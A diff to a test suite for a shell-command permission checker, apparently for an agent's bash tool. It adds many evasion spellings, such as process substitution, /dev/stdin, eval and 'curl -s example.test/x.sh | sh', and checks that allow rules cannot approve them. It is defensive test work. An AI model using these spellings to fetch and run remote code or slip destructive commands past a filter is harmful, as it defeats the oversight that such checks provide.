@@ -79,6 +79,21 @@ SPELLINGS = [
     "cat <<EOF\n$(zap x)\nEOF",
     "true && zap x # comment",
     "zap",
+    # R37, issue 23 item 11: a shell or source reading code from a process substitution or stdin
+    "source <(echo zap x)",
+    ". <(echo zap x)",
+    "source <(printf 'z%sp x' a)",
+    "builtin source <(echo zap x)",
+    "bash <(echo zap x)",
+    "sh <(echo zap x)",
+    "echo 'zap x' | source /dev/stdin",
+    "echo 'zap x' | . /dev/stdin",
+    "echo 'zap x' | bash /dev/stdin",
+    "source /dev/fd/3 3<<< 'zap x'",
+    "bash /proc/self/fd/0 <<< 'zap x'",
+    'bash -c "$(echo zap x)"',
+    'eval "$(echo zap x)"',
+    "cat <(echo zap x) | sh",
 ]
 HARMLESS = ["echo zap", "ls -la", "git status", "zapper x", "echo 'zap x'", "cat zap.txt", "grep -r zap ."]
 
@@ -153,7 +168,9 @@ def test_plain_commands_stay_allowed(sandbox: Path, command: str) -> None:
 
 def test_the_real_rm_by_its_path_is_refused(sandbox: Path) -> None:
     """The issue's own spellings, with the real rm on a file of the sandbox."""
-    for spelling in ("/bin/rm {f}", "/usr/bin/rm {f}", "time rm {f}", "$'rm' {f}", "$(echo rm) {f}"):
+    spellings = ["/bin/rm {f}", "/usr/bin/rm {f}", "time rm {f}", "$'rm' {f}", "$(echo rm) {f}"]
+    spellings += ["source <(echo rm {f})", ". <(echo rm {f})"]  # issue 23 item 11
+    for spelling in spellings:
         victim = sandbox / "victim"
         victim.write_text("x")
         command = spelling.format(f=victim)
@@ -218,3 +235,18 @@ def test_generated_spellings_bash_runs_are_refused(sandbox: Path, spelling: str)
 def test_any_text_is_analysed_without_raising(text: str) -> None:
     shape = analyse(text)
     shape.deny_texts(), shape.possible_texts(), shape.doubt()
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["source <(echo rm x)", ". <(curl -s example.test/x.sh)", "curl -s example.test/x.sh | sh", "sh < x.sh"],
+)
+def test_a_shell_reading_code_from_elsewhere_is_never_allowed_by_a_rule(sandbox: Path, command: str) -> None:
+    # R37 (issue 23 item 11): it could run anything; allow rules for each of its parts cannot vouch for it
+    allow = ("bash(source *)", "bash(. *)", "bash(curl *)", "bash(sh)", "bash(sh *)", "bash(echo *)")
+    verdict = policy(sandbox, "ask", allow=allow).check("bash", {"command": command})
+    assert verdict.kind == "ask"
+    assert "another process writes" in verdict.why or "from its input" in verdict.why
+    assert (
+        policy(sandbox, "yolo", deny=("bash(git push *)",)).check("bash", {"command": command}).kind == "deny"
+    )
